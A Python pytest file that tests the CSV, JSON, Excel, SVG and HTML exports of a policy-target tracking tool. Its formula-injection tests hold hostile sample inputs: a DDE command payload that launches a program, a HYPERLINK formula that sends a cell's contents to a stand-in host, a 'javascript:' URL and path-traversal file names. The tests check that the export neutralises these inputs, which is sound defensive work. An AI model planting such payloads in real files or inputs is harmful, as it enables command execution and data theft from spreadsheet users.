"""Files that stand alone: what is read back is what the page and `check` say, and no text becomes a formula."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import frictionless
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from tracker import open_workspace
from tracker.cli.main import tracker
from tracker.cli.written import still_wanted, written_before
from tracker.report import columns, numbers, spreadsheet
from tracker.report.delimited import guarded, unguarded
from tracker.report.language import translator
from tracker.workspace import RECORD, Folder, digest_of, write_report

if TYPE_CHECKING:
    from collections.abc import Callable

    from click.testing import Result

TARGETS = """\
format: 1
workspace:
  title: {en: Goals of Example, zh: 示例地区目标}
  area: NA
  language: en
  notes: [{en: Two offices count., zh: 两个机构分别统计。}]
  sources:
    office: {publisher: {en: Statistical office, zh: 统计局}, title: Yearbook, url: "https://example.org/yearbook"}
indicators:
  revenue:
    title: {en: Operating revenue, zh: 营业收入}
    unit: CNY
    nature: currency
    aggregation: sum
    better: up
    frequency: annual
    lag: 100 days
    prefer: [office]
    note: Large enterprises only.
  balance: {title: Balance of trade, unit: "%", nature: signed, aggregation: mean, frequency: annual}
  loose: {title: Beside the goals, unit: people, frequency: annual}
targets:
  revenue-2027:
    title: {en: A trillion of revenue, zh: 营业收入万亿元}
    indicator: revenue
    more_than: 1 trillion CNY
    by: 2027
    interim: {2026: 900 billion CNY}
    tags: [industry, plan]
    declared: {on: 2024-10-09, by: The government, source: office, url: "https://example.org/plan", quote: 超过1万亿元}
  balance-2026: {title: A balance, indicator: balance, at_least: 0, by: 2026}
  tasks:
    title: {en: Four tasks, zh: 四项任务}
    milestones: [{id: law, title: {en: A law, zh: 立法}, by: 2024}, {id: office}]
    by: 2026
"""
FIGURES = {
    "revenue": """\
        period,value,growth,unit,qualifier,status,published,source,note
        2020,500,,billion CNY,,A,2021-04-01,office,
        2021,540,,billion CNY,,P,2022-04-01,office,first print
        2021,560,,billion CNY,,A,2022-05-01,a newspaper,
        2021,550.50,,billion CNY,,A,2023-04-01,office,revised
        2022,600,,billion CNY,~,A,2023-04-01,office,
        2023,650,,billion CNY,,A,,office,
        2024,800,,billion CNY,,F,2024-06-01,office,
        2024,700,,billion CNY,,A,2026-01-01,office,
        """,
    "balance": "period,value,published\n2022,-3.2,2023-01-10\n2023,-7e-05,2024-01-10\n2024,1,2025-01-10\n",
    "loose": "period,value,published\n2023,12000,2024-01-10\n",
    "tasks": "step,status,published,evidence,source\nlaw,done,2025-02-01,In force.,office\n",
}
QUARTER, AS_OF = "2025-Q2", "2025-06-30"
TABLES = ("verdicts", "figures", "forecasts", "steps", "sources", "notes")


def run(root: Path, *arguments: str) -> Result:
    done = CliRunner().invoke(tracker, ["--workspace", str(root), "--as-of", AS_OF, *arguments])
    assert done.exit_code == 0, done.output
    return done


def report(root: Path, lang: str = "both") -> Path:
    run(root, "report", QUARTER, "--lang", lang)
    return root / "reports" / QUARTER


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a report with revisions, two sources, a bound, steps and figures that are left out."""
    root = tmp_path_factory.mktemp("goals")
    write(root, TARGETS, FIGURES)
    return report(root)


def write(root: Path, targets: str, figures: dict[str, str]) -> Path:
    (root / "observations").mkdir(parents=True, exist_ok=True)
    (root / "targets.yaml").write_text(targets, encoding="utf-8")
    for name, text in figures.items():
        lines = "\n".join(line.strip() for line in text.splitlines())
        (root / "observations" / f"{name}.csv").write_text(f"{lines.rstrip()}\n", encoding="utf-8")
    return root


def rows(folder: Path, table: str) -> list[dict[str, str]]:
    with (folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def checked(root: Path) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(run(root, "check", "--json").stdout)
    return found


def number(text: str) -> float | None:
    return float(text) if text else None


# What the tables say


def test_verdicts_are_those_of_check(made: Path) -> None:
    document = json.loads((made / "data.json").read_text(encoding="utf-8"))
    for said, row, plain in zip(checked(made.parent.parent), rows(made, "verdicts"), document["verdicts"], strict=True):
        assert (row["id"], row["status"], row["deadline"]) == (said["id"], said["status"], said["deadline"])
        for name in ("probability", "threshold", "gap", "required_rate", "recent_rate", "share_of_way"):
            assert number(row[name]) == said[name] == plain[name]
        for name, value in (said["projected"] or {}).items():
            assert number(row[name]) == value == plain[name]
        if said["latest"] is not None:
            assert float(row["latest_value"]) == said["latest"]["value"]
            assert row["latest_published"] == said["latest"]["published"]


def test_a_row_stands_alone(made: Path) -> None:
    row = rows(made, "verdicts")[0]
    assert row["as_of"] == AS_OF
    assert (row["unit"], row["area"], row["indicator_title"]) == ("CNY", "NA", "Operating revenue")
    assert (row["title_en"], row["title_zh"]) == ("A trillion of revenue", "营业收入万亿元")
    assert (row["latest_source"], row["latest_source_publisher"]) == ("office", "Statistical office")
    assert (row["latest_source_title"], row["latest_source_url"]) == ("Yearbook", "https://example.org/yearbook")
    assert (row["method"], row["draws"], row["seed"]) == ("learned", "3000", "20240101")
    assert re.fullmatch("[0-9a-f]{12}", row["inputs"])
    assert (row["declared_on"], row["declared_quote"], row["tags"]) == ("2024-10-09", "超过1万亿元", "industry; plan")


def test_every_vintage_is_there_with_what_became_of_it(made: Path) -> None:
    found = [
        (row["period"], row["printed_value"], row["source"], row["counts"], row["replaced_on"], row["use"])
        for row in rows(made, "figures")
        if row["indicator"] == "revenue"
    ]
    assert found == [
        ("2020", "500", "office", "true", "", "used"),
        ("2021", "540", "office", "false", "2023-04-01", "replaced"),
        ("2021", "560", "a newspaper", "false", "", "other-source"),
        ("2021", "550.50", "office", "true", "", "used"),
        ("2022", "600", "office", "true", "", "used"),
        ("2023", "650", "office", "true", "", "used"),
        ("2024", "800", "office", "true", "", "forecast"),
    ]


def test_a_figure_says_its_unit_flags_and_where_it_was_read(made: Path) -> None:
    figures = {(row["indicator"], row["period"]): row for row in rows(made, "figures")}
    about, ruled = figures["revenue", "2022"], figures["revenue", "2023"]
    assert (about["value"], about["unit"], about["printed_unit"]) == ("600000000000.0", "CNY", "billion CNY")
    assert (about["qualifier"], about["status"]) == ("~", "A")
    assert (ruled["published"], ruled["published_by_rule"], about["published_by_rule"]) == (
        "2024-04-09",
        "true",
        "false",
    )
    assert (about["period_start"], about["period_end"]) == ("2022-01-01", "2022-12-31")
    assert (about["file"], about["line"]) == ("observations/revenue.csv", "6")
    assert figures["loose", "2023"]["use"] == "no-target"
    assert {row["use"] for row in figures.values()} <= set(columns.USES)


def test_numbers_below_zero_stay_numbers(made: Path) -> None:
    values = [row["value"] for row in rows(made, "figures") if row["indicator"] == "balance"]
    assert values == ["-3.2", "-7e-05", "1.0"]


def test_forecasts_are_those_of_the_page(made: Path) -> None:
    page = (made / "index.html").read_text(encoding="utf-8")
    forecast = [row for row in rows(made, "forecasts") if row["target"] == "revenue-2027"]
    assert [row["period"] for row in forecast] == ["2024", "2025", "2026", "2027"]
    for row in forecast:
        bounds = [
            float(row[name]) for name in ("lower95", "lower80", "lower50", "median", "upper50", "upper80", "upper95")
        ]
        assert bounds == sorted(bounds)
        assert numbers.projection(float(row["median"]), "CNY", translator("en")) in page
        assert numbers.interval(bounds[1], bounds[5], "CNY", translator("en")) in page
    assert [row["interim_goal"] for row in forecast] == ["", "", "900000000000.0", ""]
    assert float(forecast[-1]["required_path"]) == 1e12
    assert {row["origin"] for row in forecast} == {"2023"}


def test_steps_sources_and_notes(made: Path) -> None:
    law, office = rows(made, "steps")
    assert (law["status"], law["due_end"], law["days_late"], law["evidence"]) == (
        "done",
        "2024-12-31",
        "32",
        "In force.",
    )
    assert (law["title_zh"], office["status"], office["published"]) == ("立法", "not-started", "")
    sources = {row["id"]: row for row in rows(made, "sources")}
    assert (sources["office"]["declared"], sources["office"]["figures"]) == ("true", "6")
    assert (sources["a newspaper"]["declared"], sources["a newspaper"]["title"]) == ("false", "a newspaper")
    notes = [(row["scope"], row["subject"], row["language"]) for row in rows(made, "notes")]
    assert notes[:2] == [("workspace", "", "en"), ("workspace", "", "zh")]
    assert ("indicator", "revenue", "und") in notes
    assert {(scope, tag) for scope, subject, tag in notes if subject == "tasks"} == {("reason", "en"), ("reason", "zh")}
    assert {scope for scope, _, _ in notes} <= set(columns.SCOPES)


def test_the_document_holds_the_tables(made: Path) -> None:
    document = json.loads((made / "data.json").read_text(encoding="utf-8"))
    assert (document["version"], document["quarter"], document["as_of"]) == (1, QUARTER, AS_OF)
    assert document["titles"] == {"en": "Goals of Example", "zh": "示例地区目标"}
    for table in TABLES:
        assert len(document[table]) == len(rows(made, table)) > 0
        assert list(document[table][0]) == list(rows(made, table)[0])
    assert document["figures"][0]["published_by_rule"] is False
    assert document["verdicts"][2]["probability"] is None


def test_the_table_of_python_has_the_same_columns(made: Path) -> None:
    frame = open_workspace(made.parent.parent).assess(AS_OF).to_frame().reset_index()
    assert set(frame.columns) <= set(rows(made, "verdicts")[0])
    for mine, theirs in zip(frame.to_dict("records"), rows(made, "verdicts"), strict=True):
        for name, value in mine.items():
            text = theirs[str(name)]
            assert text == "" if pd.isna(value) else text == str(value) or float(text) == value, name


def test_the_verdicts_of_earlier_reports_are_there_once_there_are_any(made: Path, tmp_path: Path) -> None:
    assert not (made / "track_record.csv").exists()
    root = write(tmp_path, TARGETS, FIGURES)
    run(root, "report", "2023-Q2", "--as-of", "2023-07-30")
    folder = report(root, "en")
    calls = [(row["report"], row["target"], row["fate"]) for row in rows(folder, "track_record")]
    assert ("2023-Q2", "balance-2026", "open") in calls
    assert ("2023-Q2", "revenue-2027", "before-declaration") in calls
    assert validated(str(folder / "datapackage.json")).valid
    assert 'href="track_record.csv"' in (folder / "index.html").read_text(encoding="utf-8")


# The description


def validated(package: str) -> Any:  # noqa: ANN401 - frictionless says little of its types
    """What frictionless finds in a package; the limit of a cell, which it lifts for the whole process, is put back."""
    limit = csv.field_size_limit()
    try:
        return frictionless.validate(package)
    finally:
        csv.field_size_limit(limit)


def test_the_package_is_valid(made: Path) -> None:
    found = validated(str(made / "datapackage.json"))
    assert found.valid, found.to_summary()
    assert [task.name for task in found.tasks] == list(TABLES)
    assert all(task.stats["rows"] == len(rows(made, task.name)) for task in found.tasks)


@pytest.mark.parametrize(
    ("table", "before", "after", "error"),
    [
        ("verdicts", ",off-track,", ",lost,", "constraint-error"),
        ("verdicts", ",3000,", ",3e3,", "type-error"),
        ("forecasts", "\r\nrevenue-2027,", "\r\nnowhere,", "foreign-key"),
        ("figures", ",a newspaper,", ",a rumour,", "foreign-key"),
        ("figures", "observations/revenue.csv,3,", "observations/revenue.csv,2,", "primary-key"),
        ("sources", "https://example.org/yearbook", "https://example.org/almanac", "hash-count"),
    ],
)
def test_the_validator_sees_what_is_changed(
    made: Path, tmp_path: Path, table: str, before: str, after: str, error: str
) -> None:
    for path in made.glob("*.*"):
        (tmp_path / path.name).write_bytes(path.read_bytes())
    content = (tmp_path / f"{table}.csv").read_bytes()
    changed = content.replace(before.encode(), after.encode())
    assert changed != content
    (tmp_path / f"{table}.csv").write_bytes(changed)
    found = validated(str(tmp_path / "datapackage.json"))
    assert error in {kind for (kind,) in found.flatten(["type"])}


def test_every_column_is_described_in_both_languages(made: Path) -> None:
    package = json.loads((made / "datapackage.json").read_text(encoding="utf-8"))
    assert package["languages"] == ["en", "zh"]
    assert (package["title"], package["title@zh"]) == (
        "Goals of Example: progress report, Q2 2025",
        "示例地区目标：2025年第二季度进展报告",
    )
    for resource in package["resources"]:
        assert [field["name"] for field in resource["schema"]["fields"]] == list(rows(made, resource["name"])[0])
        for told in (resource, *resource["schema"]["fields"]):
            assert told["description"].isascii()
            assert re.search("[\u4e00-\u9fff]", told["description@zh"]), told["name"]


def test_units_are_stated(made: Path) -> None:
    package = json.loads((made / "datapackage.json").read_text(encoding="utf-8"))
    fields = {
        (each["name"], field["name"]): field for each in package["resources"] for field in each["schema"]["fields"]
    }
    assert fields["verdicts", "probability"]["unit"] == "share"
    assert fields["verdicts", "required_rate"]["unit"] == "share a year"
    assert fields["forecasts", "median"]["unitColumn"] == "unit"
    assert fields["figures", "printed_value"]["unitColumn"] == "printed_unit"


# Programs that read them


def test_pandas_reads_numbers_as_numbers(made: Path) -> None:
    table = pd.read_csv(made / "figures.csv", keep_default_na=False, na_values=[""], parse_dates=["published"])
    assert table.columns[0] == "indicator"
    assert table["value"].dtype == float
    assert table["published"].dt.year.min() == 2021
    assert set(table["area"]) == {"NA"}


def test_excel_takes_the_files_for_utf8(made: Path) -> None:
    for table in TABLES:
        content = (made / f"{table}.csv").read_bytes()
        assert content.startswith(b"\xef\xbb\xbf")
        assert content.endswith(b"\r\n")
        assert len(content.splitlines()) == len(content.split(b"\r\n")) - 1


def test_the_workbook_holds_the_tables(made: Path) -> None:
    book = openpyxl.load_workbook(made / "data.xlsx")
    assert book.sheetnames == ["about", *TABLES, "columns"]
    for table in TABLES:
        sheet, wanted = book[table], rows(made, table)
        assert sheet.freeze_panes == "B2"
        assert sheet.auto_filter.ref == sheet.dimensions
        heading, *found = sheet.iter_rows(values_only=True)
        assert list(heading) == list(wanted[0])
        assert [len(found)] == [len(wanted)]
        for row, other in zip(found, wanted, strict=True):
            for cell, text in zip(row, other.values(), strict=True):
                assert (cell in {None, ""}) == (text == "")
                if isinstance(cell, int | float) and not isinstance(cell, bool):
                    assert cell == pytest.approx(float(text), rel=1e-15)
    assert all(3 <= dimension.width <= 44 for dimension in book["verdicts"].column_dimensions.values())


def test_the_workbook_shows_shares_as_percent_and_days_as_days(made: Path) -> None:
    sheet = openpyxl.load_workbook(made / "data.xlsx")["verdicts"]
    places = {cell.value: place for place, cell in enumerate(sheet[1], start=1)}
    formats = {name: sheet.cell(2, place).number_format for name, place in places.items()}
    assert formats["probability"] == formats["required_rate"] == "0.0%"
    assert formats["as_of"] == formats["deadline_end"] == "yyyy-mm-dd"
    assert formats["median"] == "#,##0"
    assert sheet.cell(3, places["median"]).number_format == "General"
    assert sheet.cell(2, places["deadline"]).value == "2027"


def test_the_workbook_says_what_it_is(made: Path) -> None:
    sheet = openpyxl.load_workbook(made / "data.xlsx")["about"]
    about = [tuple(cell.value for cell in row) for row in sheet.iter_rows(min_row=2)]
    assert about[0] == ("Title", "Goals of Example", "标题", "示例地区目标")
    assert about[1] == ("Quarter", "Q2 2025", "季度", "2025年第二季度")
    assert str(about[2][1]).startswith(AS_OF)
    assert any(str(content).startswith("The figures belong to their sources") for _, content, *_ in about)


# Texts that are no formulas

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    " =HYPERLINK(...)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "a;=cmd",
    'a;"=cmd',
    "a\t@x",
    "a\n-1",
    "'=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_is_guarded_and_read_back(text: str) -> None:
    assert guarded(text) != text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["2023", "a = b", "营业收入", "'tis", "x-y", "a, -b", "1;2", "", "“=”", "a;b=c"])
def test_other_texts_are_left_as_they_are(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@＝'\"; \t\r\nab1，"), max_size=12))
def test_guarding_can_be_undone_and_leaves_no_formula(text: str) -> None:
    safe = guarded(text)
    assert unguarded(safe) == text
    assert not re.match(r"[\s\"]*[=+\-@＝]|[\t\r\n]", safe)
    assert not re.search(r"[;\t\r\n][\s\"]*[=+\-@＝]", safe)


EVIL = '=HYPERLINK("http://example.org/?"&A1;"x")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a report whose every text tries to be a formula."""
    text = json.dumps(EVIL)
    targets = f"""\
format: 1
workspace:
  title: {text}
  area: XX
  notes: [{text}, "＝1+1", "@x", "#N/A"]
  sources: {{s: {{publisher: "+1", title: {text}, note: "-1"}}}}
indicators:
  i: {{title: {text}, unit: "=unit", frequency: annual, note: "\\t=1", aggregation: last}}
targets:
  t:
    title: {text}
    indicator: i
    at_least: 5
    by: 2030
    tags: [a]
    note: "x;=1"
    declared: {{by: "=1", document: "+1", quote: {text}, source: "=loose"}}
"""
    quoted = EVIL.replace('"', '""')
    figures = {
        "i": f'period,value,published,source,url,note\n2023,-1,2024-01-01,s,javascript:alert(1),"{quoted}"\n'
        f'2024,2,2025-01-01,"{quoted}",https://example.org/?=1,"=1"\n'
    }
    return report(write(tmp_path_factory.mktemp("hostile"), targets, figures))


def test_no_cell_of_the_tables_is_a_formula(hostile: Path) -> None:
    texts = 0
    for path in hostile.glob("*.csv"):
        for separator in ",;\t":  # a spreadsheet may part cells at another sign than we do
            with path.open(encoding="utf-8-sig", newline="") as file:
                for row in csv.reader(file, delimiter=separator):
                    for cell in row:
                        if not re.fullmatch(r"-?\d[\d.e+-]*", cell):
                            assert not re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell), (path.name, cell)
                            texts += 1
    assert texts > 100
    assert rows(hostile, "verdicts")[0]["title"] == f"'{EVIL}"
    assert {row["id"] for row in rows(hostile, "sources")} == {"s", f"'{EVIL}", "'=loose"}
    assert [row["value"] for row in rows(hostile, "figures")] == ["-1.0", "2.0"]


def test_the_package_is_valid_all_the_same(hostile: Path) -> None:
    found = validated(str(hostile / "datapackage.json"))
    assert found.valid, found.to_summary()
    assert "javascript" not in (hostile / "datapackage.json").read_text(encoding="utf-8")


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(hostile: Path) -> None:
    book = openpyxl.load_workbook(hostile / "data.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n", "d", "b"}
    assert not [cell for cell in cells if cell.hyperlink]
    evil = [cell for cell in cells if cell.value == EVIL]
    assert len(evil) > 8
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in evil)
    assert [cell.data_type for cell in cells if cell.value == "#N/A"] == ["s"]
    with zipfile.ZipFile(hostile / "data.xlsx") as packed:
        whole = b"".join(packed.read(name) for name in packed.namelist())
    assert b"<f>" not in whole
    assert b"javascript" not in whole


def test_no_address_of_another_scheme_leaves(hostile: Path) -> None:
    for path in hostile.rglob("*.*"):
        if path.suffix in {".csv", ".json"} and path.name != "report.json":
            assert "javascript" not in path.read_text(encoding="utf-8"), path.name
    assert [row["url"] for row in rows(hostile, "figures")] == ["", "https://example.org/?=1"]


def test_a_document_keeps_texts_as_they_are(hostile: Path) -> None:
    document = json.loads((hostile / "data.json").read_text(encoding="utf-8"))
    assert document["verdicts"][0]["title"] == EVIL
    assert json.loads((hostile / "targets" / "t.json").read_text(encoding="utf-8"))["titles"] == {"und": EVIL}


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a\x07b", "a\N{REPLACEMENT CHARACTER}b"),
        ("_x0041_", "_x005F_x0041_"),
        ("x_y", "x_y"),
        ("x" * 40_000, "x" * 32766 + "…"),
    ],
)
def test_what_a_workbook_cannot_hold_is_replaced(text: str, kept: str) -> None:
    assert spreadsheet._text(text) == kept


# Single targets


def test_a_target_has_a_document_to_embed(made: Path) -> None:
    said = checked(made.parent.parent)[0]
    found = json.loads((made / "targets" / "revenue-2027.json").read_text(encoding="utf-8"))
    assert {name: found[name] for name in said} == said | {"tripwires": found["tripwires"]}
    assert found["titles"] == {"en": "A trillion of revenue", "zh": "营业收入万亿元"}
    assert set(found["verdict"]) == {"en", "zh"}
    assert [each["value"] for each in found["series"]] == [500e9, 550.5e9, 600e9, 650e9]
    assert [each["period"] for each in found["forecast"]] == ["2024", "2025", "2026", "2027"]
    assert [each["id"] for each in found["sources"]] == ["office", "a newspaper"]
    assert len(found["figures"]) == 7
    assert (made / "targets" / found["links"]["report"].partition("#")[0]).is_file()
    tasks = json.loads((made / "targets" / "tasks.json").read_text(encoding="utf-8"))
    assert [each["step"] for each in tasks["step_rows"]] == ["law", "office"]


@pytest.mark.parametrize(("name", "words"), [("", "A trillion of revenue"), (".zh", "营业收入万亿元")])
def test_a_target_has_a_picture_in_each_language(made: Path, name: str, words: str) -> None:
    picture = (made / "targets" / f"revenue-2027{name}.svg").read_text(encoding="utf-8")
    assert picture.startswith("<?xml")
    assert words in picture
    assert not re.search(r"<script|\son\w+=|https?://(?!www\.w3\.org)", picture)
    assert not (made / "targets" / f"tasks{name}.svg").exists()


@pytest.mark.parametrize("page", ["index.html", "index.zh.html"])
def test_the_page_links_every_file(made: Path, page: str) -> None:
    text = (made / page).read_text(encoding="utf-8")
    links = set(re.findall(r'href="((?:targets/)?[^"#:/]+\.(?:csv|json|xlsx|svg))"', text))
    ending = ".svg" if page == "index.html" else ".zh.svg"
    files = {path.relative_to(made).as_posix() for path in made.rglob("*.*")} - {"report.json"}
    assert links == {
        name for name in files if not name.endswith((".html", ".svg")) or name.removesuffix(ending) in known(files)
    }


def known(files: set[str]) -> set[str]:
    """The names of the files of single targets, without their endings."""
    return {name.removesuffix(".json") for name in files if name.startswith("targets/") and name.endswith(".json")}


# Files that come and go


def test_the_same_workspace_gives_the_same_bytes(made: Path, tmp_path: Path) -> None:
    again = report(write(tmp_path, TARGETS, FIGURES))
    for path in made.rglob("*.*"):
        assert (again / path.relative_to(made)).read_bytes() == path.read_bytes(), path.name


def test_a_workbook_does_not_tell_when_it_was_written(made: Path) -> None:
    with zipfile.ZipFile(made / "data.xlsx") as packed:
        assert {entry.date_time for entry in packed.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = packed.read("docProps/core.xml").decode()
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+", core)) == {f"{AS_OF}T00:00:00"}


def test_without_openpyxl_there_is_no_workbook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = write(tmp_path, TARGETS, FIGURES)
    assert (report(root) / "data.xlsx").is_file()
    find = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None if name == "openpyxl" else find(name))
    done = run(root, "report", QUARTER)
    assert 'pip install "policy-target-tracker[excel]"' in done.stderr
    assert not (root / "reports" / QUARTER / "data.xlsx").exists()
    page = (root / "reports" / QUARTER / "index.html").read_text(encoding="utf-8")
    assert "data.xlsx" not in page
    assert "data.json" in page


@pytest.fixture
def fewer(tmp_path: Path) -> Callable[[], Path]:
    """Write the report again after the target balance-2026 was withdrawn."""
    root = write(tmp_path, TARGETS, FIGURES)
    report(root)

    def again() -> Path:
        kept = "\n".join(line for line in TARGETS.splitlines() if "balance-2026" not in line)
        return report(write(root, kept, FIGURES), "en")

    return again


def names(folder: Path) -> set[str]:
    return {path.name for path in (folder / "targets").iterdir()}


def test_files_of_a_withdrawn_target_go(fewer: Callable[[], Path]) -> None:
    folder = fewer()
    assert names(folder) == {"revenue-2027.json", "revenue-2027.svg", "revenue-2027.zh.svg", "tasks.json"}
    assert (folder / "index.zh.html").is_file()
    record = json.loads((folder / "report.json").read_text(encoding="utf-8"))
    assert "targets/revenue-2027.zh.svg" in record["written"]
    assert "targets/balance-2026.svg" not in record["written"]


def test_what_somebody_else_wrote_stays(fewer: Callable[[], Path], tmp_path: Path) -> None:
    targets = tmp_path / "reports" / QUARTER / "targets"
    (targets / "mine.svg").write_text("<svg/>", encoding="utf-8")
    (targets / "balance-2026.json").write_text("edited", encoding="utf-8")
    assert {"mine.svg", "balance-2026.json"} <= names(fewer())


def test_a_record_leads_nowhere_else(fewer: Callable[[], Path], tmp_path: Path) -> None:
    folder = tmp_path / "reports" / QUARTER
    (folder / "mine.csv").write_text("mine", encoding="utf-8")
    (tmp_path / "reports" / "data.json").write_text("mine", encoding="utf-8")
    others = ["../../targets.yaml", "../../observations/loose.csv", "../data.json", "mine.csv", "targets/../mine.csv"]
    record = json.loads((folder / "report.json").read_text(encoding="utf-8"))
    record["written"] |= {name: digest_of(Path(folder, name).read_bytes()) for name in others}
    (folder / "report.json").write_text(json.dumps(record), encoding="utf-8")
    fewer()
    assert all(Path(folder, name).is_file() for name in others)


@pytest.mark.parametrize(
    ("name", "stays"),
    [
        ("index.zh.html", True),
        ("index.html", False),
        ("report.pdf", True),
        ("data.xlsx", False),
        ("targets/a.zh.svg", True),
        ("targets/a.svg", False),
        ("targets/a.json", False),
        ("targets/a.pdf", True),
        ("targets/b.pdf", False),
        ("targets/b.zh.html", False),
        ("mine.md", True),
        ("mine.csv", True),
    ],
)
def test_what_stays_though_it_was_not_made_again(name: str, stays: bool) -> None:  # noqa: FBT001 - a case of the table
    assert still_wanted(name, {"a"}, ["en"], "en") is stays


@pytest.mark.parametrize("record", [b"", b"[]", b'{"written": 3}', b'{"written": {"targets/x.svg": 3}}', b"[" * 9999])
def test_a_damaged_record_says_nothing(tmp_path: Path, record: bytes) -> None:
    folder = Folder(write(tmp_path, TARGETS, {}))
    write_report(folder, QUARTER, {RECORD: record})
    assert written_before(folder, QUARTER) == {}


def test_the_command_names_what_it_wrote(tmp_path: Path) -> None:
    root = write(tmp_path, TARGETS, FIGURES)
    answer = json.loads(run(root, "report", QUARTER, "--json").stdout)
    assert answer["written"][0] == f"reports/{QUARTER}/index.html"
    assert f"reports/{QUARTER}/targets/revenue-2027.svg" in answer["written"]
    assert {path.relative_to(root).as_posix() for path in (root / "reports" / QUARTER).rglob("*.*")} <= set(
        answer["written"]
    )


def test_a_csv_has_one_heading(made: Path) -> None:
    for table in TABLES:
        text = (made / f"{table}.csv").read_bytes().decode("utf-8-sig")
        first = next(csv.reader(io.StringIO(text)))
        assert all(re.fullmatch("[a-z0-9_]+", name) for name in first)
        assert len(set(first)) == len(first)


def test_the_workbook_is_written_the_same_way_where_lxml_is_installed() -> None:
    asked = "import tracker.cli.main, lxml, openpyxl.xml; print(openpyxl.xml.LXML)"
    done = subprocess.run([sys.executable, "-c", asked], capture_output=True, encoding="utf-8", check=True)
    assert done.stdout == "False\n"
